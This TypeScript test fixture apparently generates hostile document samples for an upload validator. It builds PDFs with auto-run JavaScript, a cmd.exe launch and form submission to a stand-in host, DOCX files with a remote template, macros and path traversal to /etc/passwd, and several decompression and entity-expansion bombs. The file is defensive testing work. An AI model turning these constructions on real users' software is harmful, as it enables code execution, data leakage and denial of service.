// Documents that act when they are opened, grow when they are read, or are archives of something else.
import { crc32, deflateRawSync } from "node:zlib";
import { compoundFile, docx, pdf, plainZip } from "../../server/files/pictures";
import { type Hostile, hostile, page, script } from "./hostile";

const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const wordPart = `<Types><Override PartName="/word/document.xml" ContentType="${word}.main+xml"/></Types>`;
const megabyte = 1024 ** 2;

export function hostileDocuments(): Hostile[] {
  const types = (kind: string): [string, string] => [
    "[Content_Types].xml",
    wordPart.replace(`${word}.main+xml`, kind),
  ];
  return [
    hostile(
      "document",
      "PDF that runs a script when opened",
      "application/pdf",
      pdfWith(`/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, "")}) >>`),
    ),
    hostile(
      "document",
      "PDF that starts a program",
      "application/pdf",
      pdfWith(`/OpenAction << /S /Launch /F (cmd.exe) >>`),
    ),
    hostile(
      "document",
      "PDF that goes to an address",
      "application/pdf",
      pdfWith(`/OpenAction << /S /URI /URI (javascript:${script.replaceAll(/[()]/g, "")}) >>`),
    ),
    hostile(
      "document",
      "PDF with a form that sends itself",
      "application/pdf",
      pdfWith(`/AA << /O << /S /SubmitForm /F (http://hostile.example) >> >>`),
    ),
    hostile(
      "document",
      "PDF with a program in it",
      "application/pdf",
      pdfWith(`/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>`),
    ),
    hostile(
      "document",
      "PDF whose pages contain themselves",
      "application/pdf",
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R /Prev 0 >>\n%%EOF\n`,
    ),
    hostile("document", "PDF behind a page", "application/pdf", Buffer.concat([Buffer.from(page), pdf])),
    hostile(
      "document",
      "PDF with a page behind it",
      "application/pdf",
      Buffer.concat([pdf, Buffer.from(page)]),
    ),
    hostile("document", "PDF that is an archive too", "application/pdf", Buffer.concat([pdf, plainZip])),
    hostile("document", "page called PDF", "application/pdf", page),
    hostile(
      "bomb",
      "PDF with a stream of 100 MB",
      "application/pdf",
      Buffer.concat([
        pdf.subarray(0, 9),
        Buffer.from("1 0 obj\n<< /Filter /FlateDecode /Length 1 >>\nstream\n"),
        deflateRawSync(Buffer.alloc(100 * megabyte)),
        Buffer.from("\nendstream\nendobj\n%%EOF\n"),
      ]),
    ),
    hostile(
      "bomb",
      "DOCX with a text of 200 MB",
      word,
      archive([types(`${word}.main+xml`), ["word/document.xml", Buffer.alloc(200 * megabyte)]]),
    ),
    hostile(
      "bomb",
      "DOCX whose list of parts has 200 MB",
      word,
      archive([
        ["[Content_Types].xml", Buffer.concat([Buffer.from(wordPart), Buffer.alloc(200 * megabyte, 0x20)])],
      ]),
    ),
    hostile(
      "bomb",
      "DOCX of 60,000 parts",
      word,
      archive([
        types(`${word}.main+xml`),
        ...Array.from({ length: 60_000 }, (_, nth): [string, string] => [`word/${nth}.xml`, ""]),
      ]),
    ),
    hostile(
      "bomb",
      "DOCX with entities of a billion laughs",
      word,
      archive([
        types(`${word}.main+xml`),
        ["word/document.xml", `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>`],
      ]),
    ),
    hostile("bomb", "archive that says 4 GB", word, sayingSize(docx, 0xfffffffe)),
    hostile(
      "document",
      "DOCX with macros",
      word,
      archive([
        types("application/vnd.ms-word.document.macroEnabled.main+xml"),
        ["word/vbaProject.bin", "x"],
      ]),
    ),
    hostile(
      "document",
      "DOCX that loads its template from elsewhere",
      word,
      archive([
        types(`${word}.main+xml`),
        [
          "word/_rels/settings.xml.rels",
          `<Relationship Target="http://hostile.example/t.dotm" TargetMode="External"/>`,
        ],
      ]),
    ),
    hostile(
      "document",
      "archive with names that climb",
      word,
      archive([["../../../../etc/passwd", "x"], types(`${word}.main+xml`)]),
    ),
    hostile("document", "archive called DOCX", word, plainZip),
    hostile(
      "document",
      "program of Java called DOCX",
      word,
      archive([
        ["META-INF/MANIFEST.MF", "Main-Class: A"],
        ["A.class", "x"],
      ]),
    ),
    hostile("document", "spreadsheet called DOC", "application/msword", compoundFile("Workbook")),
    hostile(
      "document",
      "DOC with macros",
      "application/msword",
      Buffer.concat([compoundFile("WordDocument"), Buffer.from("_VBA_PROJECT", "utf16le")]),
    ),
    hostile("document", "DOC cut short", "application/msword", compoundFile("WordDocument").subarray(0, 20)),
  ];
}

function pdfWith(inCatalog: string): string {
  return `%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${inCatalog} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`;
}

/** A ZIP of deflated entries; readers that stream need no central directory. */
function archive(entries: readonly (readonly [name: string, content: Uint8Array | string])[]): Buffer {
  return Buffer.concat(
    entries.flatMap(([name, content]) => {
      const bytes = Buffer.from(content);
      const packed = deflateRawSync(bytes, { level: 9 });
      const header = Buffer.alloc(30);
      header.writeUInt32LE(0x04034b50, 0);
      header.writeUInt16LE(20, 4);
      header.writeUInt16LE(8, 8);
      header.writeUInt32LE(crc32(bytes), 14);
      header.writeUInt32LE(packed.length, 18);
      header.writeUInt32LE(bytes.length, 22);
      header.writeUInt16LE(Buffer.byteLength(name), 26);
      return [header, Buffer.from(name), packed];
    }),
  );
}

/** An archive whose first entry says it is of `size` bytes, packed and unpacked. */
function sayingSize(bytes: Uint8Array, size: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(size, 18);
  copy.writeUInt32LE(size, 22);
  return copy;
}
